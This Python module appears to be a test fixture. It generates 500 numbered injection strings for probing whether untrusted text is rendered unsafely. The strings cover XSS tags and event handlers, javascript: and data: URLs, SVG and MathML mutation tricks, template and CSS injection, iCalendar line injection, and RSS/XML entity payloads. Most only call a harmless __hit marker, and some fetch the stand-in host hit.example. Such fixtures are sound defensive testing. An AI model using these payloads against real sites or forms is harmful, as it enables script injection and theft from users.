"""500 texts that try to run a script, or to write what only we write, where they are shown without care.

Each calls `__hit(number)` with its own number in `INJECTIONS`, or asks `//hit.example/number`. Deterministic.
None holds NUL or a lone surrogate, which PostgreSQL does not store.
"""

from base64 import b64encode
from itertools import product
from typing import Final

#: How many there are.
NUMBER: Final = 500
#: What each text calls with its number.
MARKER: Final = "__hit"
_HIT: Final = f"{MARKER}(№)"  # "№" is the text's own number
_OUTSIDE: Final = "//hit.example/№"

_TAGS = (
    f"<script>{_HIT}</script>",
    f"<img src=x onerror={_HIT}>",
    f"<svg onload={_HIT}>",
    f"<iframe onload={_HIT}>",
    f"<body onload={_HIT}>",
    f"<input autofocus onfocus={_HIT}>",
    f"<details open ontoggle={_HIT}>",
    f"<video src=x onerror={_HIT}>",
    f"<style onload={_HIT}></style>",
    f"<ScRiPt >{_HIT}</sCrIpT>",
    f"<script src={_OUTSIDE}></script>",
    f"<object data=x onerror={_HIT}>",
    f"<img/src='x'/onerror='{_HIT}'>",
    f"<iframe srcdoc='<script>parent.{_HIT}</script>'>",
    f"<marquee onstart={_HIT}>x",
    f"<link rel=stylesheet href={_OUTSIDE}>",
    f"<audio autoplay src=x onerror={_HIT}>",
    f"<meta http-equiv=refresh content='0;url={_OUTSIDE}'>",
    f"<base href={_OUTSIDE}/>",
    f"<form id=f action={_OUTSIDE}><button autofocus>x",
    f"<img srcset={_OUTSIDE}>",
    f"<embed src={_OUTSIDE}>",
    f"<p style=x tabindex=0 autofocus onfocus={_HIT}>x",
)
#: What ends the place where a text stands.
_ENDS = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "</textarea>",
    "</a></h1>",
    "]]>",
    "`>",
    "</noscript>",
    "</template>",
    '\\">',
)
_HANDLERS = (
    "autofocus onfocus",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onanimationstart style=x",
    "onpointerenter",
    "ontoggle",
    "hx-on::load",
    "srcdoc",
)
_QUOTES = ('"', "'", "`", " ", "&quot;", "&#39;")
_ADDRESSES = (
    f"javascript:{_HIT}",
    f"JaVaScRiPt:{_HIT}",
    f"java\tscript:{_HIT}",
    f"java\nscript:{_HIT}",
    f" \x01javascript:{_HIT}",
    f"javascript&colon;{_HIT}",
    f"&#106;avascript:{_HIT}",
    f"javascript://x/%0a{_HIT}",
    f"https://x.example/';{_HIT}//",
    f"data:text/html,<script>parent.{_HIT}</script>",
    "data:text/html;base64,~",
    f"data:image/svg+xml,<svg onload={_HIT}>",
    f"vbscript:{_HIT}",
    f'https:{_OUTSIDE}" onerror={_HIT} x="',
)
_CARRIERS = (
    "%",
    '<a href="%">x</a>',
    '<iframe src="%"></iframe>',
    "[x](%)",
    '<form action="%"><input type=submit autofocus>',
)
_SVG = (
    f"<svg><script>{_HIT}</script></svg>",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_HIT}"><text y=9>x',
    f"<svg><foreignObject><img src=x onerror={_HIT}></foreignObject>",
    f"<svg><style><img src=x onerror={_HIT}></style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_HIT}>",
    f'<svg></p><style><a id="</style><img src=x onerror={_HIT}>">',
    f"<math><mi xlink:href=javascript:{_HIT}>x",
    f"<svg><use href={_OUTSIDE}#x>",
    f"<svg><image href=x onerror={_HIT}>",
    f"<svg><set attributeName=onload to={_HIT}>",
    f"<svg><desc><img src=x onerror={_HIT}></desc>",
    f"<svg><title><img src=x onerror={_HIT}>",
    f"<noscript><p title='</noscript><img src=x onerror={_HIT}>'>",
    f"<svg><![CDATA[><img src=x onerror={_HIT}>]]>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_HIT}>",
)
_TEMPLATES = (
    f"{{{{{_HIT}}}}}",
    f"{{{{constructor.constructor('{_HIT}')()}}}}",
    f"${{{_HIT}}}",
    f"#{{{_HIT}}}",
    f"<%= {_HIT} %>",
    f"{{% debug %}}{_HIT}",
    f"{{{{ settings.SECRET_KEY }}}}{_HIT}",
    f"{{{{ reading|safe }}}}{_HIT}",
    f"[[{_HIT}]]",
    f"@{{{_HIT}}}",
    f"<x hx-get=/ hx-trigger=load hx-on:load={_HIT}>",
    f"<p data-hx-get={_OUTSIDE} data-hx-trigger=load>",
    f"%(title)s %s %n {_HIT}",
    f"{{0.__class__}} {{title}} {_HIT}",
    f"{{% load x %}}{{% endautoescape %}}<img src=x onerror={_HIT}>",
    f"<x-data x-init={_HIT}>",
    f"<p ng-app>{{{{{_HIT}}}}}",
    f"<p v-html='{_HIT}'>",
    f"{{{{#with}}}}{_HIT}{{{{/with}}}}",
    f"<nocturne-events city='\" onload={_HIT}'></nocturne-events>",
)
_CHARACTERS = (
    "\u202e",
    "\u2066",
    "\u2067",
    "\u200b",
    "\u200f",
    "\ufeff",
    "\u2028",
    "\u2029",
    "\x85",
    "\x01",
    "\x0b",
    "\x0c",
    "\x1f",
    "\x7f",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "\u0300",
    "\u00ad",
    "\U000e0041",
    "\U0001fffe",
    "\u3000",
)
_UNICODE = (
    *(f"{one}<img src=x onerror={_HIT}>" for one in _CHARACTERS),
    *(f"<{one}img{one} src=x onerror={_HIT}>" for one in _CHARACTERS),
    f"\uff1cimg src=x onerror={_HIT}\uff1e",
    f"\ufe64script\ufe65{_HIT}",
    f"\u2039img onerror={_HIT}\u203a",
    f"\u02ba onload={_HIT}",
    f"\uff02 onload={_HIT} \uff02",
    f"<ſcript>{_HIT}</ſcript>",
    f"+ADw-script+AD4-{_HIT}+ADw-/script+AD4-",
    f"¼script¾{_HIT}¼/script¾",
    f"%3Cscript%3E{_HIT}%3C/script%3E",
    f"\\x3cscript\\x3e{_HIT}",
)
_JSON = (
    f"</script><script>{_HIT}</script>",
    f"</SCRIPT\t><script>{_HIT}</script>",
    f"\\u003c/script\\u003e<script>{_HIT}</script>",
    f'"}}</script><script>{_HIT}</script>',
    f'",{_HIT},"',
    f'\\",{_HIT}]//',
    f"*/{_HIT}/*",
    f"<!--<script>{_HIT}",
    f"--><script>{_HIT}</script>",
    f"\u2028{_HIT}//",
    f"\\';{_HIT}//",
    f"';{_HIT};'",
    f"`+{_HIT}+`",
    f'"+{_HIT}+"',
    f"\n{_HIT}\n",
    f'","__proto__":{{"x":"{_HIT}"}},"y":"',
    f"<!--</script><img src=x onerror={_HIT}>",
    f"]}});{_HIT};({{[",
    f"\\</script><svg onload={_HIT}>",
    f"\\u2028{_HIT}",
)
_CSS = (
    f"</style><img src=x onerror={_HIT}>",
    f"x{{background:url(javascript:{_HIT})}}",
    f"x:expression({_HIT})",
    f"@import 'https:{_OUTSIDE}';",
    f"red;}}*{{background:url({_OUTSIDE})}}",
    f"<style>@import '{_OUTSIDE}';</style>",
    f"<style>*{{background:url({_OUTSIDE})}}</style>",
    f"<p style='background:url({_OUTSIDE})'>x",
    f'" style="background:url({_OUTSIDE})',
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationend={_HIT}>",
    f"/*</style>*/<script>{_HIT}</script>",
    f"\\3c/style><script>{_HIT}</script>",
)
_CALENDAR = (
    f"\r\nATTACH:javascript:{_HIT}",
    f"\nX-HIT:{_HIT}",
    f"\rX-HIT:{_HIT}",
    f"\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-HIT:{_HIT}",
    f"\nBEGIN:VALARM\nACTION:DISPLAY\nTRIGGER:-PT1M\nDESCRIPTION:{_HIT}\nEND:VALARM",
    f"\\nX-HIT:{_HIT}",
    f"\\\nX-HIT:{_HIT}",
    f"\\\\nX-HIT:{_HIT}",
    f"x\x85X-HIT:{_HIT}",
    f"x\u2028X-HIT:{_HIT}",
    f"x\u2029X-HIT:{_HIT}",
    f"x\x0bX-HIT:{_HIT}",
    f"x\x0cX-HIT:{_HIT}",
    f"x\x1cX-HIT:{_HIT}",
    f"x\x1eX-HIT:{_HIT}",
    f";X-HIT={_HIT}:x",
    f',;:"X-HIT={_HIT}',
    f"{_HIT}\\",
    f"\r\n X-HIT:{_HIT}",
    f"\r\n\r\nEND:VCALENDAR\r\nX-HIT:{_HIT}",
    f"{'ä' * 33}\r\nX-HIT:{_HIT}",
    f"^nX-HIT:{_HIT}",
    f"=0D=0AX-HIT:{_HIT}",
    f"%0D%0AX-HIT:{_HIT}",
)
_RSS = (
    f"]]></description><item><title>{_HIT}</title></item>",
    f"&lt;img src=x onerror={_HIT}&gt;",
    f"&#60;img src=x onerror={_HIT}&#62;",
    f"<![CDATA[<img src=x onerror={_HIT}>]]>",
    f"</title><link>javascript:{_HIT}</link>",
    f"<enclosure url='{_OUTSIDE}'/>",
    f"<?xml-stylesheet href='javascript:{_HIT}'?>",
    f"<!DOCTYPE x [<!ENTITY x SYSTEM '{_OUTSIDE}'>]>&x;",
    f"&hit; {_HIT}",
    f"&amp;lt;script&amp;gt;{_HIT}",
    f"<content:encoded>{_HIT}</content:encoded>",
    f"]]]]><![CDATA[><script>{_HIT}</script>",
    f"</channel></rss><rss><channel>{_HIT}",
    f"<media:content url='{_OUTSIDE}'/>",
    f"&#x0;{_HIT}",
    f"&#xD;&#xA;X-HIT:{_HIT}",
)


def _made() -> tuple[str, ...]:
    attributes = (f"{quote} {name}={_HIT} x={quote}" for quote, name in product(_QUOTES, _HANDLERS))
    addresses = (carrier.replace("%", to, 1) for carrier, to in product(_CARRIERS, _ADDRESSES))
    few = (*attributes, *addresses, *_SVG, *_TEMPLATES, *_UNICODE, *_JSON, *_CSS, *_CALENDAR, *_RSS)
    kept = dict.fromkeys(few)
    every = [end + tag for tag, end in product(_TAGS, _ENDS) if end + tag not in kept]
    room = NUMBER - len(kept)
    chosen = [every[at * len(every) // room] for at in range(room)]
    return tuple(_numbered(one, number) for number, one in enumerate((*kept, *chosen)))


def _numbered(text: str, number: int) -> str:
    page = f"<script>parent.{MARKER}({number})</script>"
    return text.replace("№", str(number)).replace("~", b64encode(page.encode()).decode())


INJECTIONS: Final = _made()
